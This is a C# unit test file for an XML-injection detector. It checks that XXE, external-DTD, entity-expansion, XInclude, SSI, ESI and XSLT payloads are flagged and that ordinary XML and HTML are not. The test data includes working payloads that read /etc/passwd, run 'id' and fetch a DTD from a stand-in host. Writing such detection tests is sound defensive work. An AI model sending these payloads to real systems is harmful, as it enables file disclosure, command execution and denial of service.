using System.Text;
using Palisade.Detection.Markup;

namespace Palisade.Detection.Tests.Markup;

public sealed class XmlInjectionTests
{
    [Theory]
    [InlineData("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", Confidence.High)]
    [InlineData("<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://e/x.dtd'>%p;]>", Confidence.High)]
    [InlineData("<!DOCTYPE a SYSTEM \"http://e/x.dtd\">", Confidence.High)]
    [InlineData("<!DOCTYPE a PUBLIC \"-//B/A/EN\" \"file:///etc/passwd\">", Confidence.Medium)]
    [InlineData("<!DOCTYPE l [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\"><!ENTITY c \"&b;&b;\"><!ENTITY d \"&c;&c;\">]>", Confidence.High)]
    [InlineData("<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>", Confidence.High)]
    [InlineData("<!--#exec cmd=\"id\" -->", Confidence.High)]
    [InlineData("<!--#include virtual=\"/etc/passwd\"-->", Confidence.High)]
    [InlineData("<!--#echo var=\"DATE_LOCAL\" -->", Confidence.Medium)]
    [InlineData("<!--#printenv -->", Confidence.Medium)]
    [InlineData("<esi:include src=http://e/>", Confidence.High)]
    [InlineData("x=<esi:assign name=\"a\" value=\"b\"/>", Confidence.Medium)]
    [InlineData("<xsl:value-of select=\"system-property('xsl:vendor')\"/>", Confidence.High)]
    [InlineData("<xsl:template match=\"/\">", Confidence.Medium)]
    public void A_declaration_or_element_that_acts_is_found(string value, Confidence confidence)
    {
        var finding = XmlInjection.Detect(Encoding.UTF8.GetBytes(value));

        Assert.NotNull(finding);
        Assert.Equal(confidence, finding.Confidence);
        Assert.InRange(finding.Length, 1, Encoding.UTF8.GetByteCount(value) - finding.Offset);
    }

    [Theory]
    [InlineData("<?xml version=\"1.0\"?><a><b>c</b></a>")]
    [InlineData("<!DOCTYPE html><html></html>")]
    [InlineData("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">")]
    [InlineData("<!DOCTYPE html SYSTEM \"about:legacy-compat\">")]
    [InlineData("<!-- a comment #include -->")]
    [InlineData("<!-- #hashtag -->")]
    [InlineData("a < b and c <d: e")]
    [InlineData("<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>")]
    [InlineData("<!DOCTYPE svg [<!ENTITY ns \"http://ns.example.com/\">]>")]
    public void What_applications_are_sent_is_clean(string value) => Assert.False(XmlInjection.Detect(Encoding.UTF8.GetBytes(value)) is { Confidence: > Confidence.Low });
}
